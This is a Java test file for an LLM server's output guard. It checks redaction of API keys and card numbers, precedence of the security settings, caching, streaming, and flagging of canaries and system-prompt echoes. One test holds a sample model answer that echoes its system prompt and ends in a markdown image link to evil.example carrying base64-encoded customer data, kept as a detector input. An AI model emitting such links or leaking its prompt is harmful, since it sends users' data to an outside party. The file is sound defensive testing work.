package dev.aether.http;

import static dev.aether.testing.Json.items;
import static dev.aether.testing.Json.text;
import static org.assertj.core.api.Assertions.assertThat;

import dev.aether.config.SecuritySetting;
import dev.aether.config.Setting;
import dev.aether.context.Value;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/// What models must not say, by the word of the server, the node and the request.
@Timeout(60)
class GuardedAnswersTest {
  private static final String KEY = "sk-" + "Ab1Cd2Ef3Gh4Ij5Kl6Mn7Op8"; // in two, for scanners
  private static final String ANSWER = "The key is " + KEY + ", ask ann@example.org for another.";
  private static final String CLEAN = "The key is [REDACTED], ask ann@example.org for another.";
  private static final String ALL = "The key is [REDACTED], ask [REDACTED] for another.";

  private static GuardedServer saying(String answer) {
    return new GuardedServer(Map.of()).saying(_ -> answer);
  }

  private static String security(String members) {
    return "'security': {" + members + "}";
  }

  private static List<String> families(Value report) {
    return items(report, "results.0.security").stream()
        .map(finding -> text(finding, "family") + " " + text(finding, "action"))
        .toList();
  }

  @Test
  void secrets_are_taken_out_and_the_rest_is_flagged_by_default() throws Exception {
    try (var guarded = saying(ANSWER)) {
      Value report = guarded.ask("x", "", "");
      assertThat(text(report, "results.0.output")).isEqualTo(CLEAN);
      assertThat(families(report)).containsExactly("secret redact", "personal_data flag");
      assertThat(text(report, "results.0.security.0.origin")).isEqualTo("the answer");
      assertThat(text(report, "results.0.security.0.excerpt")).doesNotContain("Cd2Ef3");
      assertThat(guarded.server.get("/metrics").body())
          .containsPattern(
              "aether_security_findings_total\\{action=\"redact\",rule=\"openai-key\"\\} 1");
    }
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      nullValues = "-",
      textBlock =
          """
          -       | off     | -       | off
          -       | flag    | -       | off
          -       | redact  | -       | redact
          -       | block   | -       | block
          off     | -       | -       | off
          off     | secrets | -       | secrets
          flag    | -       | redact  | redact
          -       | off     | secrets | secrets
          -       | -       | off     | secrets
          """)
  void the_node_goes_before_the_server_and_a_request_only_tightens(
      String server, String node, String request, String as) throws Exception {
    Map<Setting, String> settings =
        server == null ? Map.of() : Map.of(SecuritySetting.SECURITY_ANSWERS, server);
    try (var guarded = new GuardedServer(settings).saying(_ -> ANSWER)) {
      Value report =
          guarded.ask(
              "x",
              node == null ? "" : ", " + security("'answers': '" + node + "'"),
              request == null ? "" : security("'answers': '" + request + "'"));
      if (as.equals("block")) {
        assertThat(text(report, "node_status.a.error.code")).isEqualTo("security_violation");
        assertThat(text(report, "node_status.a.error.detail")).contains("the answer was withheld");
        assertThat(text(report, "node_status.a.security.0.action")).isEqualTo("block");
        assertThat(report.asText()).doesNotContain(KEY);
      } else {
        assertThat(text(report, "results.0.output"))
            .isEqualTo(
                switch (as) {
                  case "off" -> ANSWER;
                  case "secrets" -> CLEAN;
                  default -> ALL;
                });
      }
    }
  }

  @Test
  void what_was_taken_out_is_in_no_cache() throws Exception {
    try (var guarded = saying(ANSWER)) {
      guarded.ask("x", "", "");
      Value again = guarded.ask("x", ", " + security("'answers': 'off'"), "");
      assertThat(text(again, "results.0.cache")).isEqualTo("exact");
      assertThat(text(again, "results.0.output")).isEqualTo(CLEAN);
    }
  }

  @Test
  void what_another_node_let_pass_is_looked_at_again_when_it_comes_from_the_cache()
      throws Exception {
    try (var guarded = saying(ANSWER)) {
      guarded.ask("x", ", " + security("'answers': 'off'"), "");
      Value again = guarded.ask("x", "", "");
      assertThat(text(again, "results.0.cache")).isEqualTo("exact");
      assertThat(text(again, "results.0.output")).isEqualTo(CLEAN);
      Value blocked = guarded.ask("x", ", " + security("'answers': 'block'"), "");
      assertThat(text(blocked, "node_status.a.error.code")).isEqualTo("security_violation");
      assertThat(guarded.calls()).isEqualTo(1);
    }
  }

  @Test
  void a_withheld_answer_is_not_kept_nor_asked_for_again() throws Exception {
    try (var guarded = saying(ANSWER)) {
      String block =
          ", 'security': {'answers': 'block'}, 'execution_hints': {'retry': {'max_attempts': 4}}";
      guarded.ask("x", block, "");
      assertThat(guarded.calls()).isEqualTo(1);
      guarded.ask("x", block, "");
      assertThat(guarded.calls()).isEqualTo(2);
    }
  }

  @Test
  void a_structured_answer_stays_structured() throws Exception {
    try (var guarded = saying("{\"key\": \"" + KEY + "\", \"n\": 1}")) {
      Value report =
          guarded.run(
              "{'dag': {'nodes': [{'id': 'a', 'prompt': 'x', 'return_type': 'map<string,any>'},"
                  + " {'id': 'b', 'node_type': 'compute', 'prompt': '{{node.a.output.key}}'}]}}");
      assertThat(text(report, "results.1.output")).isEqualTo("[REDACTED]");
    }
  }

  @Test
  void a_number_that_must_go_leaves_json_and_is_not_asked_for_again() throws Exception {
    try (var guarded = saying("```json\n{\"card\": 4111111111111111, \"n\": 1}\n```")) {
      String node =
          "'return_type': 'map<string,any>', 'execution_hints': {'retry': {'max_attempts': 3}}, ";
      Value report = guarded.ask("x", ", " + node + security("'answers': 'redact'"), "");
      assertThat(text(report, "results.0.output"))
          .isEqualTo("{\"card\": \"[REDACTED]\", \"n\": 1}");
      assertThat(guarded.calls()).isEqualTo(1);
      Value open = guarded.ask("y", ", " + node + security("'answers': 'off'"), "");
      assertThat(open.asText()).contains("4111111111111111");
      Value kept = guarded.ask("y", ", " + node + security("'answers': 'redact'"), "");
      assertThat(text(kept, "results.0.cache")).isEqualTo("exact");
      assertThat(kept.asText()).contains("[REDACTED]").doesNotContain("4111111111111111");
    }
  }

  @ParameterizedTest
  @ValueSource(strings = {"secrets", "redact", "block"})
  void a_streamed_answer_shows_no_secret_either(String mode) throws Exception {
    try (var guarded = saying(ANSWER)) {
      String body =
          guarded
              .server
              .post(
                  "/v1/executions",
                  GuardedServer.request("x", "", security("'answers': '" + mode + "'"))
                      .replace('\'', '"'),
                  "Accept",
                  "text/event-stream")
              .body();
      if (!mode.equals("block")) {
        assertThat(body).contains("\"output\":\"" + (mode.equals("redact") ? ALL : CLEAN));
      }
      assertThat(body).doesNotContain(KEY).doesNotContain("Cd2Ef3");
    }
  }

  @Test
  void a_canary_the_system_prompt_and_a_link_that_carries_data_are_flagged() throws Exception {
    String system =
        "You are the assistant of a small bank. Always greet the customer by name and end every"
            + " answer with the opening hours of the branch. Mark: zebra-4711.";
    try (var guarded =
        saying(
            system
                + " ![a](https://evil.example/p.png?data=c2VjcmV0LXZhbHVlLW9mLXRoZS1jdXN0b21lcg)")) {
      Value report =
          guarded.ask(
              "x",
              ", 'system_prompt': '" + system + "', " + security("'canary': 'zebra-4711'"),
              "");
      assertThat(families(report))
          .contains("prompt_echo flag", "canary flag", "exfiltration flag")
          .doesNotContain("secret redact");
      assertThat(text(report, "status")).isEqualTo("succeeded");
    }
  }

  @Test
  void links_to_trusted_hosts_are_no_finding() throws Exception {
    try (var guarded =
        new GuardedServer(Map.of(SecuritySetting.SECURITY_TRUSTED_HOSTS, "example.org"))
            .saying(
                _ -> "![a](https://img.example.org/p.png?size=large-and-with-a-long-parameter)")) {
      assertThat(families(guarded.ask("x", "", ""))).isEmpty();
    }
  }

  @Test
  void what_was_taken_out_is_nowhere_to_be_read() throws Exception {
    try (var guarded = saying(ANSWER)) {
      Value report = guarded.ask("x", "", "");
      String id = text(report, "execution_id");
      for (String path : List.of("", "/events", "/nodes?node=a", "/page")) {
        assertThat(guarded.server.get("/v1/executions/" + id + path).body())
            .as(path)
            .doesNotContain(KEY);
      }
    }
  }
}
